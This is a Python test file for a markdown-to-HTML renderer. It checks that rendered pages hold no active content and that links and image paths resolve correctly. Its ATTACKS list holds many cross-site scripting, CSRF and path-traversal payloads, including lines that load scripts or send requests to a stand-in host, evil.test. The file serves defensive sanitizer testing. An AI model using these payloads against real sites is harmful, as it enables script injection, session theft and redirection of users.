"""Markdown becomes a page that shows what was written, and never does anything."""

import re
from html.parser import HTMLParser

import pytest

from watchword.surfaces.web.typeset import markdown
from watchword.surfaces.web.typeset.questions import Base

BASE = Base("docs", "/ann/tool/blob/main/", "/ann/tool/raw/main/")

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' alt='`'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>"),
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<form action='/logout' method=post><button>Sign in again</button></form>",
    "<input name=authenticity_token form=x><button formaction=//evil.test>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<div class='button button-danger' id=content>x</div>",
    "<video src=x onerror=alert(1) autoplay></video>",
    "<audio src=//evil.test/x></audio>",
    "<picture><source srcset='//evil.test/x.png'><img src=//evil.test/y.png></picture>",
    "<img srcset='//evil.test/x.png 2x' src=a.png>",
    "<table background='//evil.test/x.png'><tr><td>x</table>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href='x' target=_blank ping=//evil.test>x</a>",
    "<a id=cookie name=location href=x>x</a>",
    "<img name=getElementById src=a.png>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``<img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>",
    'https://evil.test/"onmouseover=alert(1)//',
    "https://evil.test/<script>alert(1)</script>",
    '# <img src=x onerror=alert(1)>"><script>',
    '# x" onclick="alert(1)',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "---\nx: <script>alert(1)</script>\n---\n",
    "[x](x 'y\" onclick=\"alert(1)')",
    '![x" onerror="alert(1)](x.png)',
    '![x](x.png" onerror="alert(1))',
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<button popovertarget=x>x</button><div popover id=x>x</div>",
    "<a href='//evil.test\\@git.example.test'>x</a>",
    "<slot name=x></slot><portal src=//evil.test></portal>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<s\0cript>alert(1)</script>",
]  # fmt: skip

LEADS_AWAY = re.compile(r"https?://|mailto:")
LEADS_HERE = re.compile(r"/ann/tool/(?:blob|raw)/main/|#user-content-")


class Seen(HTMLParser):
    """What a browser would make of the page: its elements."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        raise AssertionError(data)

    def handle_decl(self, decl):
        raise AssertionError(decl)

    def handle_pi(self, data):
        raise AssertionError(data)


def page(text):
    return markdown.page(text, BASE)


@pytest.mark.parametrize("around", ["{}", "a **{}** b", "> {}", "- {}", "<div>\n\n{}\n\n</div>"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_file_can_act(attack, around):
    allowed = {"id", "dir", "lang", "class", "tabindex", "rel"}
    for tag, attributes in Seen(page(around.format(attack))).elements:
        assert tag in markdown.TAGS
        for name, value in attributes.items():
            assert name in allowed | markdown.ATTRIBUTES.get(tag, set())
            assert not name.startswith("on")
            if name == "href":
                assert LEADS_AWAY.match(value) or LEADS_HERE.match(value)
            if name == "src":
                assert value.startswith(BASE.raw)
            if name == "id":
                assert value.startswith("user-content-")
            if name == "class":
                assert all(one.startswith(("hl-", "prose-wide")) for one in value.split())
            if name == "tabindex":
                assert value == "0"


@pytest.mark.parametrize(
    ("written", "leads_to"),
    [
        ("[x](guide.md)", "/ann/tool/blob/main/docs/guide.md"),
        ("[x](./a/../guide.md#part)", "/ann/tool/blob/main/docs/guide.md#part"),
        ("[x](../README.md)", "/ann/tool/blob/main/README.md"),
        ("[x](../../../../../etc/passwd)", "/ann/tool/blob/main/etc/passwd"),
        ("[x](/src/main.py)", "/ann/tool/blob/main/src/main.py"),
        ("[x](..%2f..%2fx)", "/ann/tool/blob/main/x"),
        ("[x](a%20b.md)", "/ann/tool/blob/main/docs/a%20b.md"),
        ("[x](caf\u00e9.md)", "/ann/tool/blob/main/docs/caf%C3%A9.md"),
        ("[x](what?.md)", "/ann/tool/blob/main/docs/what"),
        ("[x](#some-part)", "#user-content-some-part"),
        ("[x](https://example.test/a?b=c&d)", "https://example.test/a?b=c&d"),
        ("[x](//example.test/a)", "https://example.test/a"),
        ("[x](mailto:ann@example.test)", "mailto:ann@example.test"),
        ("see https://example.test/a_(b) now", "https://example.test/a_(b"),
        ("see https://example.test/a.", "https://example.test/a"),
        ("<https://example.test/a>", "https://example.test/a"),
        ("<a href='guide.md'>x</a>", "/ann/tool/blob/main/docs/guide.md"),
        ("[x](\\\\evil.test)", "/ann/tool/blob/main/docs/%5Cevil.test"),
        ("[x](logo.svg)", "/ann/tool/blob/main/docs/logo.svg"),
        ("![x](logo.svg)", "/ann/tool/blob/main/docs/logo.svg"),
        ("![x](https://example.test/x.png)", "https://example.test/x.png"),
        ("![x](//example.test/x.png)", "https://example.test/x.png"),
    ],
)
def test_links_lead_where_the_file_means(written, leads_to):
    hrefs = [found["href"] for tag, found in Seen(page(written)).elements if tag == "a"]
    assert hrefs == [leads_to]


@pytest.mark.parametrize(
    ("written", "source"),
    [
        ("![x](logo.png)", "/ann/tool/raw/main/docs/logo.png"),
        ("![x](../img/logo.JPG?raw=true)", "/ann/tool/raw/main/img/logo.JPG"),
        ("<img src='/logo.webp' width=10 onload=x>", "/ann/tool/raw/main/logo.webp"),
    ],
)
def test_images_of_the_repository_are_drawn(written, source):
    (image,) = [found for tag, found in Seen(page(written)).elements if tag == "img"]
    assert image["src"] == source
    assert image["alt"]


def test_an_image_from_elsewhere_inside_of_a_link_leaves_the_link_alone():
    html = page("[![build](https://ci.test/badge.png)](https://ci.test/)")
    assert Seen(html).elements[1:] == [
        ("a", {"href": "https://ci.test/", "rel": "nofollow noopener"})
    ]
    assert "build" in html


def test_headings_have_ids_as_on_github():
    html = page("# Hello, World!\n\n## Hello World\n\n# `code` & Ünï_code\n\n#\n")
    ids = [found.get("id") for tag, found in Seen(html).elements if tag in {"h1", "h2"}]
    assert ids == [
        "user-content-hello-world",
        "user-content-hello-world-1",
        "user-content-code--ünï_code",
        None,
    ]


def test_tables_tasks_and_code_are_shown():
    html = page(
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [ ] open\n- [x] done\n\n"
        "```python\nreturn 1\n```\n\n~~gone~~\n"
    )
    assert '<div class="prose-wide" tabindex="0"><table>' in html
    assert '<th align="right">b</th>' in html
    assert '<li class="prose-task">\u2610 open</li>' in html
    assert '<li class="prose-task">\u2611 done</li>' in html
    assert '<span class="hl-k">return</span>' in html
    assert "<s>gone</s>" in html


def test_front_matter_is_shown_as_data():
    html = page("---\ntitle: A page\n---\n# Begin\n")
    assert '<span class="hl-nt">title</span>' in html
    assert "<hr>" not in html


@pytest.mark.parametrize("text", ["", "\n", "\0", "*" * 10_000, "[" * 10_000, "> " * 2_000 + "x"])
def test_odd_files_are_pages_as_well(text):
    assert isinstance(page(text), str)
